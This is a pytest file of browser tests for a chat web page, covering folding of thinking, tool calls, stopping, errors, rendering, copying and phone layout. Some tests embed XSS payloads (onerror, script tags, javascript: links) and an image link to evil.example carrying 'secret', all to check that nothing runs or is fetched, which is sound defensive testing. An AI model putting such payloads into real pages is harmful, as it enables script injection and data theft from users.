"""The chat page in a browser: what a reader sees and can do."""

import json
import re
import threading

import pytest

from tests.support.browser import PHONE, launch_browser, open_page
from tests.support.chat_page import ENDLESS, run_app
from tests.support.engine_work import wait_until_idle
from tests.support.in_turns import InTurns
from tests.support.scripted import Answer, Scripted, write_call

WATCH_FOLDS = """
window.folds = [];
new MutationObserver((records) => {
  for (const { oldValue, target } of records) window.folds.push([oldValue !== null, target.open]);
}).observe(document, { subtree: true, attributeFilter: ["open"], attributeOldValue: true });
"""
"""Notes in the browser when something is folded: was it open, is it open."""


@pytest.fixture
async def browser():
    """Chromium without a window."""
    async with launch_browser() as chromium:
        yield chromium


async def ask(page, question):
    """Type a question and send it as a user does."""
    await page.locator("#question").press_sequentially(question)
    await page.keyboard.press("Enter")


@pytest.mark.slow
async def test_thinking_folds_and_the_answer_shows_when_asked_in_chinese(browser, engine):
    """Protects the reader's view: thinking is open until the answer begins, then folded and still there."""
    async with run_app(engine.base_url) as app, open_page(browser, app.url, script=WATCH_FOLDS, locale="zh-CN") as page:
        await ask(page, "请解释相对论")
        await page.locator(".summary").wait_for()
        assert await page.evaluate("folds") == [[True, False]]
        thinking = page.locator("details.thinking")
        assert re.fullmatch(r"思考了 \d+\.\d 秒", await thinking.locator("summary").inner_text())
        assert not await thinking.locator(".prose").is_visible()
        await thinking.locator("summary").click()
        assert (await thinking.locator(".prose").inner_text()).startswith("好的，用户让我解释相对论。首先，")
        assert (await page.locator(".answer").inner_text()).endswith("引力是质量使时空弯曲的结果。")


@pytest.mark.slow
async def test_tool_call_shows_in_either_language_when_made(browser, engine):
    """Protects the view of tools: call, result and answer, and that the language can be switched at any time."""
    async with run_app(engine.base_url) as app, open_page(browser, app.url, locale="en-GB") as page:
        await ask(page, "What is 123 * 456?")
        await page.locator(".summary").wait_for()
        assert (await page.locator(".tool").inner_text()).split("\n") == [
            "Tool",
            "multiply(a=123, b=456)",
            "→",
            "56088",
        ]
        assert await page.locator(".answer").inner_text() == "123 * 456 = 56088"
        await page.locator("#language").click()
        assert await page.locator(".badge").inner_text() == "工具"
        assert await page.locator("#send").inner_text() == "发送"
        await page.reload()
        assert await page.locator("#send").inner_text() == "发送"


@pytest.mark.slow
async def test_stop_button_stops_the_engine_when_pressed_in_the_middle(browser, engine):
    """Protects the GPU: after Stop the engine computes for nobody, what came is kept, and one can ask on."""
    before = await wait_until_idle(engine)
    async with (
        run_app(engine.base_url, **ENDLESS) as app,
        open_page(browser, app.url, locale="zh-CN") as page,
    ):
        await page.locator("#thinking").uncheck()
        await ask(page, "你好")
        await page.locator(".answer").wait_for()
        assert app.llm._in_flight.in_flight == 1
        await page.locator("#stop").click()
        assert await wait_until_idle(engine) - before < ENDLESS["max_tokens"]
        assert await page.locator(".note").inner_text() == "已停止"
        assert (await page.locator(".answer").inner_text()).startswith("你好！")
        await page.locator("#new").click()
        await ask(page, "你是谁？")
        await page.locator(".answer").wait_for()
        await page.locator("#stop").click()
        assert await wait_until_idle(engine) - before < ENDLESS["max_tokens"]
    assert app.llm._in_flight.in_flight == 0


@pytest.mark.slow
async def test_markup_is_shown_as_text_when_a_model_or_a_tool_writes_it(browser):
    """Protects the reader from scripts in what a model writes, wherever on the page it is shown."""
    attack = "<img src=x onerror=\"document.title='owned'\">"
    call = write_call("1", attack, json.dumps({"<b>": attack}))

    def answer(body):
        rest = {} if body["messages"][-1]["role"] == "tool" else {"tool_calls": [call]}
        return {"reasoning": attack, "content": attack, **rest}

    with Scripted(answer) as server:
        async with (
            run_app(server.url, server="vllm") as app,
            open_page(browser, app.url, locale="zh-CN") as page,
        ):
            await ask(page, attack)
            await page.locator(".summary").wait_for()
            assert await page.locator("article img, article b").count() == 0
            assert await page.title() == "ChatQwen3"
            assert await page.locator(".answer").nth(1).inner_text() == attack


@pytest.mark.slow
async def test_error_is_in_the_reader_s_language_and_can_be_retried_when_the_model_is_away(browser):
    """Protects the user from a page that waits for ever and from words he cannot read; no address is shown."""
    async with run_app("http://127.0.0.1:9/v1") as app, open_page(browser, app.url, locale="zh-CN") as page:
        await ask(page, "你好")
        error = page.locator(".error")
        assert await error.inner_text() == "无法连接模型服务。服务是否已启动？本页的管理员可在日志中查看地址。"
        await page.locator("#language").click()
        assert (await error.inner_text()).startswith("The model cannot be reached.")
        await page.locator("#send").wait_for()
        await page.locator(".retry").click()
        await page.locator(".reply:not(.working) .error").wait_for()
        assert await page.locator(".asked").count() == 1
        assert "127.0.0.1" not in await page.locator("main").inner_text()


LISTED = [{"id": name, "object": "model", "owned_by": "vllm"} for name in ("Qwen/Qwen3-8B", "Qwen/Qwen3-32B")]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("models", "shown"), [(LISTED[:1], "q"), (LISTED, ""), (None, "")], ids=["one listed", "several", "no list"]
)
async def test_header_names_the_model_that_answered_when_none_is_configured(browser, models, shown):
    """Protects readers from a header that is empty for good, or names a model that did not answer."""
    with Scripted(lambda _: {"content": "Yes."}, models) as server:
        async with run_app(server.url, model="") as app, open_page(browser, app.url, locale="en-GB") as page:
            assert await page.locator("#model").inner_text() == ""
            await ask(page, "Is it?")
            await page.locator(".reply:not(.working)").wait_for()
            assert await page.locator("#model").inner_text() == shown
            errors = await page.locator(".error").all_inner_texts()
            assert [("No model is chosen" in text, "$QWEN_MODEL" in text) for text in errors] == [(True, True)] * (
                not shown
            )


RICH = r"""# Title

A **bold** *word*, `code`, ~~gone~~, [a link](https://example.com/x) and ![a picture](https://evil.example/?q=secret).
**注意：**中文里的**“粗体”**两边没有空格。
A second line, with $a^2 + b^2 = c^2$ and \(x_1\), at $5 and $6.

$$\int_0^1 x^2\,dx = \frac{1}{3}$$

| city | degrees |
|------|--------:|
| 北京 | 25 |

```python
def f(x):
    return x + 1  # one more
```

1. one
   - nested
2. two

> quoted

<script>document.title = 'owned'</script> <b onclick=alert(1)>tag</b> [bad](javascript:alert(1))
$\href{javascript:alert(1)}{x}$ $\url{https://evil.example}$
"""


@pytest.mark.slow
async def test_markdown_tables_code_and_math_are_drawn_when_a_model_writes_them(browser):
    """Protects the answer's look: what the libraries draw, and that nothing in it runs or is fetched."""
    with Scripted(lambda _: {"content": RICH}) as server:
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url, locale="en-GB") as page:
            await ask(page, "Show me")
            await page.locator(".summary").wait_for()
            answer = page.locator(".answer")
            for selector, count in {
                "h1": 1,
                "strong": 3,
                "del": 1,
                "table td": 2,
                "pre code.language-python .hljs-keyword": 2,
                "ol > li > ul > li": 1,
                "blockquote": 1,
                "code.math:not(.block) math": 4,
                "code.math.block math mfrac": 1,
                "img, script, b, [onclick], [style]": 0,
                "a[href^='javascript']": 0,
            }.items():
                assert await answer.locator(selector).count() == count, selector
            text = await answer.inner_text()
            assert "at $5 and $6" in text
            assert "<b onclick=alert(1)>tag</b>" in text
            assert await answer.locator("a[href='https://example.com/x'][rel='noopener noreferrer']").count() == 1
            assert await page.title() == "ChatQwen3"


@pytest.mark.slow
async def test_conversation_is_there_when_the_page_is_loaded_again(browser, engine):
    """Protects the conversation from F5: thinking, tools and answers look the same, and the model still knows it."""
    async with run_app(engine.base_url) as app, open_page(browser, app.url, locale="en-GB") as page:
        await ask(page, "What is 123 * 456?")
        await page.locator(".summary").wait_for()
        before = await page.locator("main").inner_text()
        await page.reload()
        assert await page.locator("main").inner_text() == before
        await page.locator("#new").click()
        await page.reload()
        assert await page.locator(".asked").count() == 0
        assert await page.locator("#welcome").is_visible()


@pytest.mark.slow
async def test_question_is_asked_anew_when_it_is_edited_or_retried(browser):
    """Protects edit and retry: what follows is replaced, on the page and in what the model is sent."""
    with Scripted(lambda body: {"content": f"Answer to {body['messages'][-1]['content']}"}) as server:
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url, locale="en-GB") as page:
            for number, question in enumerate(("one", "two", "three"), start=1):
                await ask(page, question)
                await page.locator(".summary").nth(number - 1).wait_for()
            await page.locator(".retry").nth(2).click()
            await page.locator(".summary").nth(2).wait_for()
            assert texts(server.requests[3]) == texts(server.requests[2])
            await page.locator(".edit").nth(1).click()
            assert await page.locator("#question").input_value() == "two"
            await page.keyboard.press("Escape")
            assert not await page.locator("#editing").is_visible()
            await page.locator(".edit").nth(1).click()
            await page.locator("#question").fill("2")
            await page.keyboard.press("Enter")
            await page.locator(".asked", has_text="2").wait_for()
            await page.locator(".summary").nth(1).wait_for()
            assert await page.locator(".asked").all_inner_texts() == ["one", "2"]
    assert texts(server.requests[-1]) == ["one", "Answer to one", "2"]


def texts(body):
    """Return what was said in a request."""
    return [message["content"] for message in body["messages"]]


@pytest.mark.slow
async def test_thinking_shows_its_seconds_and_stays_as_the_reader_left_it_when_it_lasts(browser):
    """Protects the reader of a long thought: the seconds count, and what he folded or opened stays so."""
    release = threading.Event()
    pieces = [{"reasoning": "Hm. " * 40}, release, {"content": "Yes."}]
    with InTurns(pieces) as server:
        async with (
            run_app(f"{server.root}/v1", server="vllm") as app,
            open_page(browser, app.url, locale="en-GB") as page,
        ):
            await ask(page, "Is it?")
            summary = page.locator(".thinking summary")
            await page.get_by_text("Thinking… 1 s").wait_for()
            await summary.click()
            await summary.click()
            release.set()
            await page.locator(".summary").wait_for()
            assert re.fullmatch(r"Thought for \d+\.\d s", await summary.inner_text())
            assert await page.locator(".thinking").get_attribute("open") is not None


@pytest.mark.slow
async def test_answer_and_code_are_copied_when_the_button_is_pressed(browser):
    """Protects copy: the Markdown as the model wrote it, and the code without its frame."""
    answer = "Look:\n\n```python\nx = 1\n```"
    with Scripted(lambda _: {"content": answer}) as server:
        context = {"locale": "en-GB", "permissions": ["clipboard-read", "clipboard-write"]}
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url, **context) as page:
            await ask(page, "Show me")
            await page.locator(".summary").wait_for()
            await page.locator(".actions .copy").click()
            await page.get_by_text("Copied").wait_for()
            assert await page.evaluate("navigator.clipboard.readText()") == answer
            await page.locator("pre .copy").click()
            await page.locator("pre .copy", has_text="Copied").wait_for()
            assert await page.evaluate("navigator.clipboard.readText()") == "x = 1\n"


@pytest.mark.slow
async def test_page_fits_a_phone(browser):
    """Protects phones: nothing but code, tables and formulas is wider than the screen, and those scroll."""
    wide = "| a | b |\n|---|---|\n| " + "x" * 200 + " | y |\n\n```\n" + "code " * 60 + "\n```\n\n" + "long" * 60
    with Scripted(lambda _: {"content": wide}) as server:
        context = {"locale": "zh-CN", "viewport": PHONE}
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url, **context) as page:
            assert await page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
            await ask(page, "x" * 100)
            await page.locator(".summary").wait_for()
            assert await page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]


@pytest.mark.slow
async def test_reader_is_told_when_an_answer_is_not_whole(browser):
    """Protects from half an answer that looks whole: the page says why the server ended it."""
    answers = {
        reason: Answer(message={"content": "Ye"}, reason=reason) for reason in ("stop", "eos", "length", "abort")
    }
    with Scripted(lambda body: answers[body["messages"][-1]["content"]]) as server:
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url, locale="en-GB") as page:
            for number, reason in enumerate(answers):
                await ask(page, reason)
                await page.locator(".summary").nth(number).wait_for()
            assert await page.locator(".warning").all_inner_texts() == [
                "Cut: the limit on tokens was reached",
                "Not complete: the model's server ended the answer with “abort”",
            ]


@pytest.mark.slow
async def test_enter_ends_a_word_of_an_input_method_and_sends_nothing_when_typed_in_safari(browser):
    """Protects Chinese typed in Safari, whose Enter at the end of a word tells by its code alone what it is."""
    with Scripted(lambda _: {"content": "好"}, models=[{"id": "m"}]) as server:
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url) as page:
            await page.locator("#question").fill("nihao")
            await page.locator("#question").dispatch_event("keydown", {"key": "Enter", "keyCode": 229})
            assert await page.locator("#question").input_value() == "nihao"
            await page.locator("#question").dispatch_event("keydown", {"key": "Enter", "keyCode": 13})
            await page.locator(".summary").wait_for()
    assert len(server.requests) == 1


@pytest.mark.slow
async def test_text_runs_in_its_own_direction_when_languages_are_mixed(browser):
    """Protects Arabic and Hebrew beside Chinese; a screen reader waits until an answer is complete."""
    text = "مرحبا بك!\n\n你好！\n\n| שלום | 值 |\n|---|---|\n| אחד! | 1 |"
    with Scripted(lambda _: {"content": text}, models=[{"id": "m"}]) as server:
        async with run_app(server.url, server="vllm") as app, open_page(browser, app.url) as page:
            await ask(page, "مرحبا!")
            await page.locator(".summary").wait_for()
            assert await page.locator("#log").get_attribute("aria-busy") == "false"
            for one in (".asked", ".answer p >> nth=0", ".answer td >> nth=0"):
                style = await page.locator(one).evaluate("(one) => getComputedStyle(one).unicodeBidi")
                assert style == "plaintext"
